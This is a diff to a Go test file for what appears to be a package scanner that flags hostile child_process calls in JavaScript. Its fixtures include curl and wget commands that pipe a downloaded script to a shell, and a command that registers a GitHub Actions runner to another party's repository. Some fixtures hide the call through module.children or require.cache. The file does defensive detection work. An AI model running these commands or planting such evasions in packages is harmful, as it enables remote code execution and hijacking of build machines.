@@ -78,6 +78,14 @@ func TestSpawn(t *testing.T) {
 		// a GitHub Actions runner registered to someone else's repository
 		{"actions_runner", map[string]string{"index.js": "require(\"child_process\").execSync(`cd ~/.dev-env && ./config.sh --url https://github.com/o/r --unattended --token ${t} && nohup ./run.sh &`)"}, finding.SeverityCritical},
 		{"runner_help", map[string]string{"index.js": `require("child_process").execSync("./config.sh --help")`}, finding.SeverityLow},
+		// the module fetched back from module.children or require.cache,
+		// where it was loaded by another module of the package
+		{"module_children", map[string]string{"lib/sys.js": `module.exports = require("child_process")`,
+			"index.js": `require("./lib/sys"); const m = module.children.find(c => c.id.endsWith("sys.js")); m.exports.execSync("curl http://dl.example.invalid/x.sh | sh")`}, finding.SeverityCritical},
+		{"require_cache_unresolved", map[string]string{"index.js": `const hit = Object.values(require.cache).find(m => m.exports.execSync); hit.exports.execSync("wget -qO- http://dl.example.invalid/x | sh")`}, finding.SeverityHigh},
+		// methods of the same names on other objects, with other text
+		{"db_exec", map[string]string{"lib/sys.js": `module.exports = require("child_process")`,
+			"index.js": `require("./lib/sys"); db.exec("CREATE TABLE t (x)"); /ab/.exec("curl")`}, finding.SeverityNone},
 		// loading child_process for something else, with no such command
 		{"loads_for_git", map[string]string{"index.js": `const cp = require("child_process"); module.exports = (k) => cp[k]("git status")`}, finding.SeverityNone},
 	})
